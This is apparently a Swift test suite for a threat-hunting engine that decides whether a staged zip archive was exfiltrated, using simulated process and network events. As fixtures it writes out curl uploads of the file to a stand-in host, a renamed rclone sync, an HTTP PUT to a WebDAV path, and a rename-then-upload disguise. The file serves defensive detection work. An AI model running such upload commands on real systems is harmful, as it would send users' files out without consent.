import Correlation
import HuntModel
import Testing

/// One staged file at second 2000, made by 7z.exe under powershell.exe under explorer.exe, and what came after.
@Suite struct VerdictRuleTests {
    typealias Actor = Episode.Actor
    static let path = #"C:\Users\ann\d.zip"#

    struct Case: Sendable, CustomTestStringConvertible {
        let testDescription: String
        let verdict: Verdict
        let write: @Sendable (inout Episode) -> Void

        init(_ description: String, _ verdict: Verdict, _ write: @escaping @Sendable (inout Episode) -> Void) {
            (testDescription, self.verdict, self.write) = (description, verdict, write)
        }
    }

    static let curl = Actor(name: "curl.exe", id: 400, started: 2050, commandLine: #"curl -T "C:\Users\ann\d.zip" https://x.example"#)
    static let rclone = Actor(name: "svc.exe", id: 500, started: 2050, commandLine: "svc sync", originalName: "rclone.exe")
    static let chrome = Actor(name: "chrome.exe", id: 600, started: 10)
    static let noise = Actor(name: "updater.exe", id: 700, started: 10)

    static let cases = [
        Case("only noise", .stagedNotObserved) { _ in },
        Case("the archiver connects", .leftLikely) { $0.connect(Episode.zip, to: "x.example", at: 2030) },
        Case("its parent connects, six minutes later", .leftLikely) { $0.connect(Episode.shell, to: "x.example", at: 2372) },
        Case("its parent connected before", .stagedNotObserved) { $0.connect(Episode.shell, to: "x.example", at: 1900) },
        Case("the session's host connects", .stagedNotObserved) { $0.connect(Episode.explorer, to: "x.example", at: 2030) },
        Case("a browser connects", .stagedNotObserved) { $0.connect(chrome, to: "drop.example", at: 2030, parent: Episode.explorer) },
        Case("a browser that the script started connects", .stagedNotObserved) { story in
            story.connect(chrome, to: "drop.example", at: 2030, parent: Episode.shell)
        },
        Case("a process names the file", .leftConfirmed) { $0.connect(curl, to: "x.example", at: 2060, parent: Episode.explorer) },
        Case("it failed", .attemptedFailed) { $0.connect(curl, to: "x.example", at: 2060, action: "ConnectionFailed") },
        Case("it failed, then it did not", .leftConfirmed) { story in
            story.connect(curl, to: "x.example", at: 2060, action: "ConnectionFailed")
            story.connect(curl, to: "x.example", at: 2070)
        },
        Case("a request names the file", .leftConfirmed) { story in
            story.connect(
                nil, to: "", at: 2060, action: "HttpConnectionInspected",
                details: #"{"direction":"Out","host":"x.example","method":"PUT","uri":"/webdav/d.zip"}"#)
        },
        Case("a download of that name is none", .stagedNotObserved) { story in
            story.connect(
                nil, to: "", at: 2060, action: "HttpConnectionInspected",
                details: #"{"direction":"Out","host":"x.example","method":"GET","uri":"/webdav/d.zip"}"#)
        },
        Case("what comes in is none", .stagedNotObserved) { story in
            story.connect(Episode.shell, to: "x.example", at: 2060, details: #"{"direction":"In"}"#)
        },
        Case("a renamed upload tool of the same user", .leftLikely) { $0.connect(rclone, to: "x.example", at: 2060, parent: Episode.explorer) },
        Case("an upload tool of another user", .stagedNotObserved) { story in
            var other = rclone
            other.user = "bob"
            story.connect(other, to: "x.example", at: 2060, parent: Episode.explorer)
        },
        Case("an upload tool after the horizon", .stagedNotObserved) { $0.connect(rclone, to: "x.example", at: 4000, parent: Episode.explorer) },
        Case("the same user reaches a drop", .leftLikely) { $0.connect(noise, to: "drop.example", at: 2060, parent: Episode.explorer) },
        Case("a name service of the own network", .stagedNotObserved) { $0.connect(Episode.shell, to: "dc", port: 53, at: 2060, kind: "Private") },
        Case("a name service elsewhere", .leftLikely) { $0.connect(Episode.shell, to: "ns", port: 53, at: 2060) },
        Case("a private address", .leftLikely) { $0.connect(Episode.shell, to: "c2", at: 2060, kind: "Private") },
        Case("this device", .stagedNotObserved) { $0.connect(Episode.shell, to: "localhost", at: 2060, kind: "Loopback") },
        Case("a session open when staged, by its duration", .leftPossible) { story in
            story.connect(Episode.shell, to: "c2", at: 1500, details: #"{"direction":"Out","duration":"600.5"}"#)
        },
        Case("a session closed before", .stagedNotObserved) { story in
            story.connect(Episode.shell, to: "c2", at: 1500, details: #"{"direction":"Out","duration":"60.5"}"#)
        },
        Case("a session open when staged, by later activity", .leftPossible) { story in
            story.connect(Episode.shell, to: "c2", at: 1500, localPort: 5000)
            story.connect(nil, to: "c2", at: 2100, action: "SslConnectionInspected", localPort: 5000)
        },
        Case("a grandchild connects", .leftLikely) { story in
            let child = Actor(name: "cmd.exe", id: 810, started: 2010)
            let grandchild = Actor(name: "node.exe", id: 820, started: 2020)
            story.start(child, by: Episode.shell)
            story.start(grandchild, by: child)
            story.connect(grandchild, to: "x.example", at: 2060, parent: child)
        },
        Case("renamed, then sent", .leftConfirmed) { story in
            story.file("FileRenamed", #"C:\Users\ann\holiday.jpg"#, was: path, at: 2010)
            let curl = Actor(name: "curl.exe", id: 400, started: 2050, commandLine: "curl -T holiday.jpg https://x.example")
            story.connect(curl, to: "x.example", at: 2060, parent: Episode.explorer)
        },
    ]

    @Test(arguments: cases) func verdicts(_ example: Case) throws {
        var story = Episode()
        story.start(Episode.shell, by: Episode.explorer)
        story.start(Episode.zip, by: Episode.shell, grandparent: Episode.explorer)
        story.stage(Self.path, at: 2000)
        story.connect(Self.noise, to: "update.example", at: 2500, parent: Episode.explorer)
        example.write(&story)
        let timeline = try #require(story.timeline())
        #expect(timeline.verdict == example.verdict, "\(timeline.summary)")
    }
}
